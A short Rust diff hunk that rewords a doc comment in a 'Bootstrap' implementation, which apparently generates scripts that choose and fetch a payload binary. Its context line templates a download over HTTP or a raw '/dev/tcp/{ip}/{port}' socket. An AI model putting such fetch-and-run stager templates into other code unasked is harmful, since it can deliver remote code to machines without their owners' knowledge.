@@ -83,7 +83,7 @@ impl Bootstrap<'_> {
         format!("url=http://{address}/{key}; tcp=/dev/tcp/{ip}/{port}; path=/{key};")
     }
 
-    /// What is said of the binary for the script's machine: the first that runs there, or else the
+    /// The facts of the binary for the script's machine: the first that runs there, or else the
     /// first, as [`Payloads`] chooses it.
     fn choice(&self) -> String {
         let facts = |payload: &Payload| {
